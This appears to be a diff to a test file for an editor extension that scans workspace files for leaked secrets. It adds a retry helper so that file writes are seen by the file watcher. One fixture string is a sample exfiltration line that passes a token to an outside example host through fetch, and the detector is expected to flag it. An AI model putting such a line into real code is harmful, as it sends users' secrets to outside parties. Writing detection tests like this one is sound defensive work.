@@ -5,6 +5,31 @@ import { editorFeatures, ours, waitFor, withSetting, workspaceFolder, writeFile 
 
 const LEAK = 'fetch("https://a.example/x?token=s3cr3tvalue");\n';
 
+/**
+ * Writes a file until a file watcher of the test's own reports it: the editor's watcher restarts
+ * when files.exclude changes and drops what happens meanwhile (under load that can take seconds).
+ * The scan hears events from the same watcher, so once this one has, the scan has too.
+ */
+async function writeSeen(uri: vscode.Uri, text: string): Promise<void> {
+  const watcher = vscode.workspace.createFileSystemWatcher(new vscode.RelativePattern(vscode.Uri.joinPath(uri, '..'), '*'));
+  try {
+    let seen = false;
+    const mark = (u: vscode.Uri): void => {
+      if (u.toString() === uri.toString()) seen = true;
+    };
+    watcher.onDidChange(mark);
+    watcher.onDidCreate(mark);
+    for (let attempt = 0; attempt < 10 && !seen; attempt++) {
+      await writeFile(uri, text);
+      const until = Date.now() + 2_000;
+      while (!seen && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
+    }
+    assert.ok(seen, `no file watcher reported the write to ${uri.path}`);
+  } finally {
+    watcher.dispose();
+  }
+}
+
 describe('editor: workspace scan', () => {
   it('lists findings of files that are not open, skipping .gitignore and files.exclude, and follows changes on disk', async () => {
     const editor = await editorFeatures();
@@ -38,9 +63,9 @@ describe('editor: workspace scan', () => {
 
       // A change on disk re-scans the file. (Inside this block: changing files.exclude restarts
       // the editor's file watcher, and a write right after that can go unreported.)
-      await writeFile(found, 'fetch("https://a.example/x");\n');
+      await writeSeen(found, 'fetch("https://a.example/x");\n');
       await waitFor(() => ours(found), (l) => l.length === 0, 'the re-scan after the change');
-      await writeFile(found, LEAK);
+      await writeSeen(found, LEAK);
       await waitFor(() => ours(found), (l) => l.length === 1, 'the re-scan after the second change');
     });
 
